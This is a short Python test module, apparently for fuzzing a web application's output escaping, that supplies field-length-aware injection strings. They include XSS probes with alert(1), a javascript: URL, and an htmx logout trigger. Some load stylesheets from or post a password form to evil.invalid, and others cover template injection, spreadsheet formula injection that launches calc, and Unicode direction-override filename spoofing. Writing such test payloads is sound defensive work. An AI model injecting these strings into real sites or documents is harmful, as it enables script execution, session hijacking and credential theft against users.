"""Words that nobody means well with, for each place where words can stand."""

MARK = "poisoned"
SHORT = '"><img src=x onerror=alert(1)>'
QUOTES = "'\"><svg onload=alert(1)>{{7*7777}}"
ATTRIBUTES = f'x" hx-get="/accounts/logout/" hx-trigger="load" data-{MARK}="1" onfocus=alert(1) autofocus y="'
ELEMENTS = "</title></textarea></script><script>window.poisoned=1;alert(1)</script>"
LONG = "\n\n".join(
    [
        ELEMENTS,
        ATTRIBUTES,
        "<img src=x onerror=alert(1)><svg><script>alert(1)</script></svg><iframe srcdoc='<script>alert(1)</script>'>",
        "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](data:text/html;base64,PHNjcmlwdD4=) ![d](javascript:alert(1))",
        "<javascript:alert(1)> [e](\x01javascript:alert(1)) [f](//evil.invalid) <https://evil.invalid/?a=\"onmouseover=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<style>@import 'https://evil.invalid/x.css'</style><link rel=stylesheet href=https://evil.invalid/x.css>",
        "<form action=https://evil.invalid><input name=password autofocus onfocus=alert(1)></form><base href=https://evil.invalid>",
        "{{7*7777}} {% load x %} ${7*7777} #{7*7777} <%= 7*7777 %> {0.__class__} %(name)s %s",
        "=cmd|' /C calc'!A0\n+1+1\n@SUM(1)",
        "\u202egnp.exe\u202c \u2066\u2067\u200f zero\u200bwidth Z" + "\u0301" * 40,
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;b&amp;gt;",
        "x" * 300,
    ]
)  # fmt: skip


def say(place, limit):
    """The worst that fits; addresses that people give are code."""
    if place.endswith("url"):
        return "javascript:alert(1)//"
    if limit >= len(LONG):
        return LONG
    if limit >= 900:
        return LONG[:limit]
    for poison in (ELEMENTS + ATTRIBUTES, ATTRIBUTES, ELEMENTS, QUOTES):
        if len(poison) <= limit:
            return poison
    return SHORT[:limit]
